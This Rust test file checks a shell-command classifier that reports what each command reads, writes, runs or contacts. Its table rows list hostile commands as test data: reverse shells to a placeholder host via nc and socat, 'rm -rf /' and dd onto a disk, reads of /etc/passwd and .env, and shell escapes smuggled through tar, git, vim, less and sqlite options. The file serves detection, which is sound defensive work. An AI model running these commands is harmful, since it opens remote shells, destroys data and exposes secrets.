//! What is reported, a row a behaviour: the line, what the sink is told, and
//! the nature.

use super::recorder::{nature, read};

fn table(rows: &[(&str, &[&str], &str)]) {
    let mut wrong = Vec::new();
    for (line, told, kind) in rows {
        let (command, lines) = read(line);
        let found = nature(command.nature);
        if lines != *told || found != *kind || !command.in_table {
            wrong.push(format!(
                "{line}\n  told {lines:?}\n  not  {told:?}\n  {found:?} not {kind:?}"
            ));
        }
    }
    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
}

#[test]
fn files() {
    table(&[
        ("cat a b", &["read a", "read b"], ""),
        ("cat -", &[], ""),
        ("cp a b", &["read a", "write b"], ""),
        (
            "cp -r src /tmp/x",
            &["read src/**", "write /tmp/x/**", "keeping /tmp/x src"],
            "",
        ),
        (
            "cp -t /tmp a x/b",
            &[
                "write /tmp",
                "read a",
                "read x/b",
                "write /tmp/a",
                "write /tmp/b",
            ],
            "",
        ),
        (
            "cp --target-dir=/tmp a",
            &["write /tmp", "read a", "write /tmp/a"],
            "",
        ),
        (
            "cp -l a b",
            &["read a", "write a", "write b", "same b a"],
            "",
        ),
        (
            "mv a b",
            &["read a/**", "write a/**", "write b/**", "same b a"],
            "",
        ),
        ("rm -rf build", &["write build/**"], ""),
        ("rm -- -rf", &["write -rf"], ""),
        ("rm *.o", &["write <*.o>"], ""),
        ("rm --help", &[], "inert"),
        ("rm -rf / --help", &["write //**"], ""),
        ("chmod -R 755 d", &["write d/**"], ""),
        (
            "ln -s /etc/passwd x",
            &["read /etc/passwd", "write x", "symbolic x /etc/passwd"],
            "",
        ),
        (
            "ln -s ../a d/x",
            &[
                "read d/x/../a",
                "read d/../a",
                "write d/x",
                "symbolic d/x ../a",
            ],
            "",
        ),
        (
            "ln -s d/x",
            &["read ./d/x", "write ./x", "symbolic ./x d/x"],
            "",
        ),
        (
            "ln -f a b",
            &["read a", "write a", "write b", "same b a"],
            "",
        ),
        ("touch -r ref new", &["read ref", "write new"], ""),
        ("tee -a log", &["write log"], ""),
        (
            "dd if=/dev/zero of=/dev/sda bs=1M",
            &["read /dev/zero", "write /dev/sda"],
            "",
        ),
        ("ls", &["read ."], ""),
        ("ls -la /etc", &["read /etc"], ""),
        ("sort -o out in", &["write out", "read in"], ""),
        (
            "sort --compress-prog=sh in",
            &["run sh ?({})", "read in"],
            "",
        ),
        (
            "split --filter='sh -c x' in",
            &["shell sh -c x", "read in"],
            "writes",
        ),
        ("uniq in out", &["read in", "write out"], ""),
        ("grep -r pat dir", &["read dir/**"], ""),
        ("grep -e pat file", &["read file"], ""),
        ("gzip -k f", &["write f"], ""),
        ("gzip -dc f", &["read f"], ""),
        (
            "install -m 755 a /usr/bin/a",
            &["read a", "write /usr/bin/a"],
            "",
        ),
        ("find . -name x", &["read ./**"], ""),
        ("find /tmp -delete", &["read /tmp/**", "write /tmp/**"], ""),
        ("find . -fprint out", &["read ./**", "write out"], ""),
        ("xxd a b", &["read a", "write b"], ""),
        (
            "patch -p1 -d sub -i x.diff",
            &["read sub/x.diff", "write sub/**"],
            "writes",
        ),
    ]);
}

#[test]
fn options_that_no_row_lists() {
    table(&[
        ("git log --weird", &[], "writes runs"),
        ("git log --weird=1 -3", &[], "writes runs"),
        ("git log -Y", &[], "writes runs"),
        ("git log -12", &[], ""),
        ("tr -d --weird a", &[], ""),
        // It may be any option that begins so.
        ("sort --o=f in", &["write f", "read in"], ""),
        (
            "git push --re=x origin",
            &["shell x", "remote x"],
            "writes network sends runs",
        ),
        // What runs the workspace's code can do no more.
        ("pytest --weird", &[], "writes workspace"),
    ]);
}

#[test]
fn wrappers() {
    table(&[
        ("env A=1 rm x", &["assign A=1", "run rm x"], ""),
        ("env -i -u X rm x", &["run rm x"], ""),
        ("env -S 'rm -rf /'", &["run rm -rf /"], ""),
        ("env '-Srm -rf /'", &["run rm -rf /"], ""),
        ("env -C /tmp rm x", &["in /tmp", "run rm x"], ""),
        (
            "env --weird rm x",
            &["unknown Program --weird", "run rm x"],
            "writes runs",
        ),
        (
            "timeout $x 5 rm x",
            &["unknown Program $x", "run 5 rm x"],
            "",
        ),
        (
            "sudo -u $x rm x",
            &["unknown Program sudo", "run rm x"],
            "privilege",
        ),
        ("timeout -s KILL 5 rm x", &["run rm x"], ""),
        ("nice -n 5 rm x", &["run rm x"], ""),
        ("nice -19 rm x", &["run rm x"], ""),
        ("nohup rm x", &["run rm x"], "writes"),
        ("sudo -u root rm -rf /", &["run rm -rf /"], "privilege"),
        ("sudo A=1 rm x", &["assign A=1", "run rm x"], "privilege"),
        ("sudo -s rm x", &["shell rm x"], "privilege"),
        ("sudo -i", &[], "privilege runs interactive"),
        ("su -c 'rm x' root", &["shell rm x"], "privilege"),
        ("su - root -c 'rm x'", &["shell rm x"], "privilege"),
        ("su", &[], "privilege runs interactive"),
        ("stdbuf -oL rm x", &["run rm x"], ""),
        ("xargs rm -f", &["run rm -f ?({})"], ""),
        ("xargs -0 -I% mv % /tmp", &["run mv ?(%) /tmp"], ""),
        ("xargs -n1", &[], ""),
        (
            "find . -exec rm {} ;",
            &["read ./**", "run rm ?./(./{})"],
            "",
        ),
        (
            "find . -exec rm {} +",
            &["read ./**", "run rm ?./(./{})"],
            "",
        ),
        (
            "find -execdir rm {} ;",
            &["read ./**", "in ?.({})", "run rm ?./({})"],
            "",
        ),
        ("watch -n 1 rm x", &["shell rm x"], "interactive"),
        ("watch -x rm x", &["run rm x"], "interactive"),
        ("flock /tmp/l rm x", &["write /tmp/l", "run rm x"], ""),
        (
            "flock /tmp/l -c 'rm x'",
            &["write /tmp/l", "shell rm x"],
            "",
        ),
        ("script -c 'rm x' log", &["shell rm x", "write log"], ""),
        ("busybox rm x", &["run rm x"], ""),
        (
            "/lib64/ld-linux-x86-64.so.2 /bin/rm x",
            &["run /bin/rm x"],
            "",
        ),
        ("parallel rm ::: a b", &["run rm ?({})"], ""),
        ("strace -f -o log rm x", &["write log", "run rm x"], ""),
        ("setarch x86_64 -R rm x", &["run rm x"], ""),
        (
            "npx -y rimraf@3 x",
            &["run rimraf x"],
            "writes workspace network runs",
        ),
        (
            "uv run pytest -q",
            &["run pytest -q"],
            "writes workspace network",
        ),
        (
            "chroot /mnt rm x",
            &["read /mnt/**", "run rm x"],
            "privilege",
        ),
    ]);
}

#[test]
fn shells_and_code() {
    table(&[
        ("sh -c 'rm x'", &["shell rm x"], ""),
        ("bash -ec 'rm x'", &["shell rm x"], ""),
        ("bash -o pipefail -xc 'rm x' name", &["shell rm x"], ""),
        ("bash -c -- 'rm x'", &["shell rm x"], ""),
        ("bash build.sh", &["exec build.sh"], "writes workspace"),
        (
            "bash --rcfile evil -i",
            &["exec evil"],
            "writes workspace runs interactive",
        ),
        (
            "bash $x",
            &["unknown Script $x", "exec ?($x)", "unknown Script $x"],
            "writes workspace runs",
        ),
        (
            "python3 -c 'import os; os.system(\"rm x\")'",
            &["code Python", "shell rm x"],
            "writes",
        ),
        ("python3.11 -c 'print(1)'", &["code Python"], "writes"),
        (
            "python -c 'import subprocess as s; s.run([\"rm\", \"-rf\", \"/\"])'",
            &["code Python", "run rm -rf /"],
            "writes",
        ),
        (
            "python -c 'open(\"out\", \"w\")'",
            &["code Python", "write out"],
            "writes",
        ),
        ("python app.py", &["exec app.py"], "writes workspace"),
        (
            "python -m http.server",
            &[],
            "writes workspace network sends",
        ),
        (
            "python -m pytest -q x",
            &["run pytest -q x"],
            "writes workspace",
        ),
        (
            "perl -pi -e 's/a/b/' f",
            &["code Perl", "write f"],
            "writes",
        ),
        (
            "perl -e 'system(\"rm x\")'",
            &["code Perl", "shell rm x"],
            "writes",
        ),
        (
            "perl -e 'system(\"rm\", \"x\")'",
            &["code Perl", "run rm x"],
            "writes",
        ),
        (
            "perl -e 'open(F,\">/tmp/x\")'",
            &["code Perl", "write /tmp/x"],
            "writes",
        ),
        ("ruby -e '`rm x`'", &["code Ruby", "shell rm x"], "writes"),
        (
            "node -e 'require(\"child_process\").execSync(\"rm x\")'",
            &["code JavaScript", "shell rm x"],
            "writes",
        ),
        (
            "php -r 'system($_GET[0]);'",
            &["code Php", "unknown Program system"],
            "writes",
        ),
        (
            "lua -e 'os.execute(\"rm x\")'",
            &["code Lua", "shell rm x"],
            "writes",
        ),
    ]);
}

#[test]
fn awk_and_sed() {
    table(&[
        ("sed 's/[^/]*e/b/' f", &["code Sed", "read f"], ""),
        (
            "sed 's/[[:alpha:]/]/b/;s/[]/]/c/' f",
            &["code Sed", "read f"],
            "",
        ),
        (
            "sed '/a/ {s//c/; :x; n; b x}' f",
            &["code Sed", "read f"],
            "",
        ),
        (
            "sed 's/[/]e/' f",
            &["code Sed", "unknown Unparsed s/[/]e/", "read f"],
            "",
        ),
        ("awk '{print $1}' f", &["code Awk", "read f"], ""),
        (
            "awk 'BEGIN{system(\"rm x\")}'",
            &["code Awk", "shell rm x"],
            "",
        ),
        (
            "awk '{print > \"out\"}' f",
            &["code Awk", "write out", "read f"],
            "",
        ),
        (
            "awk '{print | \"sort\"}' f",
            &["code Awk", "shell sort", "read f"],
            "",
        ),
        (
            "awk '\"date\" | getline d' f",
            &["code Awk", "shell date", "read f"],
            "",
        ),
        (
            "awk '{system($1)}' f",
            &["code Awk", "unknown Program awk", "read f"],
            "",
        ),
        ("awk '$1 > 5 {print}' f", &["code Awk", "read f"], ""),
        ("awk -F: -v n=1 '{print n}' f", &["code Awk", "read f"], ""),
        ("sed -n 's/a/b/p' f", &["code Sed", "read f"], ""),
        ("sed -i.bak 's/a/b/' f", &["code Sed", "write f"], ""),
        ("sed -i '' 's/a/b/' f", &["code Sed", "write f"], ""),
        ("sed '1e rm x' f", &["code Sed", "shell rm x", "read f"], ""),
        (
            "sed 's/a/b/w out' f",
            &["code Sed", "write out", "read f"],
            "",
        ),
        (
            "sed 's/a/b/e' f",
            &["code Sed", "unknown Script s///e", "read f"],
            "",
        ),
        (
            "sed -e 'w out' -e p f",
            &["code Sed", "write out", "read f"],
            "",
        ),
    ]);
}

#[test]
fn hosts() {
    table(&[
        ("sftp u@h", &["host h"], "writes network sends"),
        ("w3m -dump /etc/hosts", &["read /etc/hosts"], "network"),
        ("curl https://a.example/x", &["host a.example:443"], ""),
        (
            "curl -o out http://u:p@a.example:8080/",
            &["write out", "host a.example:8080"],
            "",
        ),
        (
            "curl -d @f https://a.example",
            &["read f", "host a.example:443"],
            "sends",
        ),
        ("curl -X POST a.example", &["host a.example"], "sends"),
        ("curl -T f ftp://h/", &["read f", "host h:21"], "sends"),
        ("curl file:///etc/passwd", &["read /etc/passwd"], ""),
        (
            "wget -qO- https://a.example",
            &["host a.example:443"],
            "writes",
        ),
        (
            "wget https://a.example/f",
            &["host a.example:443"],
            "writes",
        ),
        ("ssh -p 22 u@h ls", &["host h"], "network sends"),
        (
            "ssh -o ProxyCommand='sh x' h",
            &["shell sh x", "host h"],
            "network sends interactive",
        ),
        ("scp a u@h:/b", &["read a", "host h"], "network sends"),
        ("rsync -a src/ h:dst", &["read src//**", "host h"], "sends"),
        (
            "rsync -e 'ssh -i k' h:x y",
            &["shell ssh -i k", "host h", "write y/**"],
            "",
        ),
        (
            "nc -e /bin/sh h 99",
            &["shell /bin/sh", "host h:99"],
            "network sends",
        ),
        (
            "socat TCP:h:1 EXEC:sh",
            &["host h:1", "shell sh"],
            "writes network sends",
        ),
        ("ping -c 1 h", &["host h"], ""),
        (
            "dig @1.1.1.1 a.example",
            &["host 1.1.1.1:53", "host a.example"],
            "network",
        ),
    ]);
}

#[test]
fn git() {
    table(&[
        ("git status", &[], ""),
        ("git log --oneline -5", &[], ""),
        (
            "git -C x --no-pager push -f origin main",
            &["remote origin"],
            "network sends",
        ),
        ("git push", &["remote origin"], "network sends"),
        (
            "git clone https://h/r d",
            &["host h:443", "write d/**"],
            "network",
        ),
        ("git clone git@h:r", &["host h"], "writes network"),
        (
            "git fetch --upload-pack='rm x' origin",
            &["shell rm x", "remote origin"],
            "writes network",
        ),
        (
            "git ls-remote --upload-p 'rm x' /tmp",
            &["shell rm x", "read /tmp"],
            "network",
        ),
        ("git ls-remote 'ext::sh -c x'", &["run sh -c x"], "network"),
        ("git -c core.pager='rm x' log", &["shell rm x"], ""),
        (
            "git config alias.x '!rm x'",
            &["write .git/config", "shell rm x"],
            "writes",
        ),
        ("git config user.name", &[], ""),
        (
            "git rebase -x 'make test' main",
            &["shell make test"],
            "writes",
        ),
        ("git bisect run make test", &["run make test"], "writes"),
        ("git submodule foreach 'rm x'", &["shell rm x"], ""),
        ("git diff --output=f", &["write f"], ""),
        ("git --version", &[], "inert"),
        ("git commit -am msg", &[], "writes"),
        ("git grep -Osh x", &["shell sh"], "runs"),
        ("git branch", &[], ""),
        ("git branch new", &[], "writes"),
        // It shows more of a list, and there is none.
        ("git branch -v new", &[], "writes"),
        ("git branch -vv", &[], ""),
        ("git tag -n1", &[], ""),
        ("git config unset user.name", &[], "writes"),
        ("git config get user.name", &[], ""),
        ("git config -f x --list", &["read x"], ""),
        (
            "git config -f x a.abbrev 1",
            &["write x", "write .git/config"],
            "writes",
        ),
        (
            "git pull -j --upload-pack='rm x' o",
            &["shell rm x", "remote o"],
            "writes network",
        ),
        (
            "git push ../o main",
            &["read ../o", "write ../o/**"],
            "network sends",
        ),
        (
            "git --git-dir=/tmp/evil log",
            &["read /tmp/evil/**"],
            "runs",
        ),
        ("git --git-dir=a/.git log", &["read a/.git/**"], ""),
        ("git merge-index rm -a", &["run rm ?({})"], "writes runs"),
        ("git diagnose", &[], "writes"),
        ("git merge-tree a b", &[], "writes"),
        ("git fsck --lost-found", &[], "writes"),
        ("git fsck", &[], ""),
        ("git interpret-trailers --in-place f", &["write f"], ""),
        ("git symbolic-ref --short HEAD", &[], ""),
        ("git symbolic-ref HEAD x", &[], "writes"),
        ("git apply --check p", &["read p"], ""),
        ("git apply --check --apply p", &["read p"], "writes"),
        ("git format-patch -1 --stdout", &[], ""),
        ("git format-patch -1", &[], "writes"),
        (
            "git checkout-index --prefix=/o/ -a",
            &["write /o//**"],
            "writes",
        ),
        ("git grep --no-index x /etc", &["read /etc/**"], ""),
        ("git grep /x/", &[], ""),
    ]);
}

#[test]
fn git_names_of_objects_and_paths() {
    table(&[
        ("git log main -- ':(top)a'", &["read main", "read a"], ""),
        ("git show HEAD:.env", &["read .env"], ""),
        ("git cat-file -p :1:.env", &["read .env"], ""),
        ("git archive -o f HEAD:d", &["write f", "read d"], ""),
        ("git blame HEAD -- x", &["read HEAD", "read x"], ""),
        ("git grep x HEAD:d", &["read d"], ""),
        ("git grep x -- 'd/*'", &["read <d/*>"], ""),
        ("git grep -e x ../o", &["read ../o/**"], ""),
        ("git grep --no-index x a:b", &["read a:b/**"], ""),
        ("git hash-object -w x", &["read x"], "writes"),
        ("git restore x", &["write x"], "writes"),
        ("git checkout main x", &["write x"], "writes"),
        (
            "git apply --directory=d p",
            &["write d/**", "read p"],
            "writes",
        ),
        (
            "git am --directory=d p",
            &["write d/**", "read p"],
            "writes",
        ),
        (
            "git init-db --template=t d",
            &["exec t", "write d", "write d/.git/**"],
            "writes workspace",
        ),
    ]);
}

#[test]
fn git_output() {
    table(&[
        ("git blame --output=f x", &["write f", "read x"], ""),
        ("git shortlog -n --output=f", &["write f"], ""),
        ("git shortlog -w --output f", &["write f"], ""),
        ("git log -U --output=f", &["write f"], ""),
        ("git log --format --output=f", &["write f"], ""),
        // It is an error, after the file was emptied.
        ("git log -n --output=f", &["write f"], ""),
        ("git log -S --output=f", &["write f"], ""),
        (
            "git rev-list --missing --output=f HEAD",
            &["write f", "read HEAD"],
            "",
        ),
        ("git reflog show --output=f", &["write f"], ""),
        ("git stash show -U --output=f", &["write f"], ""),
        (
            "git bundle create b HEAD --output=f",
            &["write f", "write b"],
            "",
        ),
        ("git format-patch --stdout --output=f", &["write f"], ""),
        ("git fast-export --output=f", &["write f"], "writes"),
        ("git diff --output-indicator-new=x", &[], ""),
    ]);
}

#[test]
fn archives_and_machine() {
    table(&[
        (
            "vim -c 'set x|!sh'",
            &["code Other", "unknown Program set x|!sh"],
            "writes runs interactive",
        ),
        ("go run x.go", &["exec x.go"], "writes workspace"),
        ("exiftool -artist=x f", &["write f"], ""),
        ("man /etc/passwd", &["read /etc/passwd"], ""),
        (
            "tar xzf a.tgz -C /opt",
            &["read a.tgz", "write /opt/**"],
            "",
        ),
        ("tar -czf a.tgz src", &["write a.tgz", "read src/**"], ""),
        ("tar tf a.tar", &["read a.tar"], ""),
        (
            "tar cf a x --checkpoint=1 --checkpoint-action=exec=sh",
            &["write a", "shell sh", "read x/**"],
            "",
        ),
        (
            "tar xf a --to-command='rm x'",
            &["read a", "shell rm x"],
            "",
        ),
        (
            "tar -I 'rm x' -xf a",
            &["read a", "shell rm x", "write ./**"],
            "",
        ),
        ("unzip a.zip -d out", &["write out/**", "read a.zip"], ""),
        ("cpio -i -F a", &["read a", "write ./**"], "writes"),
        ("cpio -o -F a", &["write a"], ""),
        ("cpio -p d", &["write d/**"], ""),
        (
            "wget -nv -P d https://h/x",
            &["write d/**", "host h:443"],
            "writes",
        ),
        ("kill -9 1", &[], "processes"),
        ("systemctl restart x", &[], "system"),
        ("systemctl --user status x", &[], ""),
        ("mount", &[], ""),
        (
            "mount /dev/sda1 /mnt",
            &["read /dev/sda1", "write /mnt/**"],
            "system",
        ),
        ("crontab -l", &[], ""),
        (
            "docker run -v /:/host -it img sh",
            &["write //**"],
            "system interactive",
        ),
        ("docker ps -a", &[], ""),
        (
            "docker compose -f x.yml down -v",
            &["exec x.yml"],
            "writes workspace system",
        ),
        ("docker push img", &[], "network sends"),
        ("kubectl -n x delete pod y", &[], "network sends"),
        ("cargo build --release", &[], "writes workspace"),
        ("cargo publish", &[], "writes workspace network sends"),
        ("npm install x", &[], "writes workspace network"),
        ("npm run build", &[], "writes workspace"),
        ("make -C sub test", &[], "writes workspace"),
        (
            "make --eval='$(shell rm x)'",
            &["shell $(shell rm x)"],
            "writes workspace",
        ),
        (
            "gh pr create -F body.md",
            &["read body.md"],
            "network sends",
        ),
        ("aws s3 rm s3://b/k", &[], "writes network sends"),
        ("aws ec2 describe-instances", &[], "network"),
        (
            "psql -h db -c 'select 1'",
            &["host db", "code Sql"],
            "writes network",
        ),
        (
            "sqlite3 x.db '.shell rm x'",
            &["write x.db", "code Sql", "shell rm x"],
            "",
        ),
        (
            "vim -c ':!rm x' f",
            &["code Other", "shell rm x", "write f"],
            "writes interactive",
        ),
        ("less +'!rm x' f", &["shell rm x", "read f"], ""),
        ("man -P 'rm x' ls", &["shell rm x"], ""),
        (
            "tcpdump -z rm -w f",
            &["run rm ?({})", "write f"],
            "privilege",
        ),
        ("ip addr show", &[], ""),
        ("ip link set eth0 down", &[], "system"),
    ]);
}

#[test]
fn programs_that_said_less_than_they_do() {
    table(&[
        ("lua -v x.lua", &["exec x.lua"], "writes workspace"),
        ("node -v", &[], "inert"),
        ("java -javaagent:x.jar -version", &[], "writes workspace"),
        ("java -version", &[], "inert"),
        ("ant -v", &[], "writes workspace"),
        ("mvn -v", &[], "inert"),
        ("bundle -V", &[], "writes workspace network"),
        ("cargo tree", &[], "writes workspace network"),
        ("cargo locate-project", &[], ""),
        ("cmake -E rename a b", &["run mv a b"], "writes workspace"),
        ("cmake -E env rm x", &["run env rm x"], "writes workspace"),
        (
            "rustc -Clinker=sh x.rs",
            &["read x.rs", "run sh"],
            "writes workspace",
        ),
        ("gcc @args", &["read args"], "writes runs"),
        ("gcc -Wl,-plugin,x.so x.c", &["read x.c"], "writes runs"),
        (
            "gcc -Wall -O2 -c x.c -o x.o",
            &["write x.o", "read x.c"],
            "writes",
        ),
        ("gofmt -l .", &["read ."], ""),
        ("gofmt -w x.go", &["write x.go"], ""),
        ("llvm-strip x", &["write x"], "writes"),
        ("npm config get x", &[], "network"),
        ("npm config set x y", &[], "writes workspace network runs"),
        ("npm audit", &[], "network"),
        ("npm audit fix", &[], "writes workspace network runs"),
        ("pip list -e --log=x", &["write x"], ""),
        ("pip list --outdated", &[], "network"),
        ("pip cache purge", &[], "writes workspace network runs"),
        ("poetry version", &[], ""),
        ("poetry version patch", &[], "writes"),
        ("ruff clean", &[], "writes"),
    ]);
}

#[test]
fn runners_and_machines_that_said_less_than_they_do() {
    table(&[
        ("strace -o '|rm x' ls", &["shell rm x", "run ls"], ""),
        ("strace -qo log ls", &["write log", "run ls"], ""),
        ("chrt -i rm x", &["run rm x"], ""),
        ("chrt -i 0 rm x", &["run rm x"], ""),
        (
            "tmux ls ';' kill-server",
            &["run tmux kill-server"],
            "processes",
        ),
        (
            "tmux display -p '#(rm x)'",
            &["unknown Script #(rm x)"],
            "processes",
        ),
        ("docker-compose rm -sfv", &[], "system"),
        (
            "docker run --cgroup-parent x -v /:/h img",
            &["write //**"],
            "system",
        ),
        (
            "docker run --unheard x -v /:/h img",
            &["write //**"],
            "writes system runs",
        ),
        ("docker --config /x ps", &["exec /x"], "writes workspace"),
        (
            "aws s3api get-object --bucket b --key k out",
            &["write out"],
            "network",
        ),
        ("hg bookmarks x", &[], "writes"),
        (
            "gh config set editor x",
            &[],
            "writes workspace network runs",
        ),
        (
            "nvme format /dev/nvme0",
            &["read /dev/nvme0"],
            "writes system reads",
        ),
        ("nvme list", &[], ""),
        ("mount --source a --target b", &["write b/**"], "system"),
        ("ip -all netns exec rm x", &["run rm x"], "privilege"),
        ("ip link s dev eth0 down", &[], "system"),
    ]);
}
